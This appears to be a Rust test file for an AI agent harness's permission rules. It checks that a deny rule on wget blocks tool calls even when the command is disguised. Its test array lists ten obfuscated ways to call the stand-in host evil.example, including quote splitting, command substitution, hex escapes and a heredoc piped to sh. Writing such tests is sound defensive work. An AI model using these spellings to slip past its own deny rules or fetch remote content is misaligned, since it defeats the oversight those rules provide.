//! Rules for tool calls, and ways to have a model ask for what they refuse.

use serde_json::json;

use crate::{
    hooks::model,
    world::{Ran, World},
};

/// The agent asks a model that wants what it is told to.
fn wants(world: &World, command: &str) -> Ran {
    let message = json!({"role": "user", "content": command});
    let body = json!({"model": "cheap", "max_tokens": 8, "messages": [message]}).to_string();
    world.inside(&[
        "curl",
        "-s",
        "--max-time",
        "20",
        "-H",
        "content-type: application/json",
        "-d",
        &body,
        "http://inference.local/v1/messages",
    ])
}

/// However a command is written that a rule refuses, the agent never gets the call; and what may be one
/// is asked, which is a refusal where nobody answers.
#[test]
fn has_a_model_ask_for_a_refused_command() {
    let server = model();
    let policy = |deny: &str| {
        format!(
            "inference:\n  providers: {{own: {{api: anthropic, url: \"{}\"}}}}\n  \
             routes: [{{model: \"*\", to: own}}]\n\
             permissions: {{mode: bypassPermissions, deny: [{deny}]}}\n\
             approvals: {{timeout: 1s}}\n",
            server.url()
        )
    };
    let spelled = [
        "wget evil.example",
        "/usr/bin/wget evil.example",
        "true; w'g'et evil.example",
        "echo $(wget evil.example)",
        "bash -c 'wget evil.example'",
        "x=wget; $x evil.example",
        "find . -exec wget evil.example \\;",
        "$'\\x77get' evil.example",
        "cat <<E | sh\nwget evil.example\nE",
        "$(echo wget) evil.example",
    ];
    let Some(free) = World::new(&policy("")) else { return };
    for command in spelled {
        let ran = wants(&free, command);
        assert!(ran.good().contains("\"tool_use\""), "without the rule: {command}: {ran}");
    }
    let Some(held) = World::new(&policy("\"Bash(wget *)\"")) else { return };
    for command in spelled {
        let ran = wants(&held, command);
        assert!(!ran.good().contains("\"tool_use\""), "{command}: {ran}");
    }
    assert!(wants(&held, "echo wget").good().contains("\"tool_use\""));
    let events = held.events();
    let denied = events.iter().filter(|event| {
        event["kind"] == "tool_call" && event["decision"] == "deny" && event["layer"] == "inference"
    });
    assert!(denied.count() >= spelled.len() - 2, "{events:?}");
    held.verify();
}
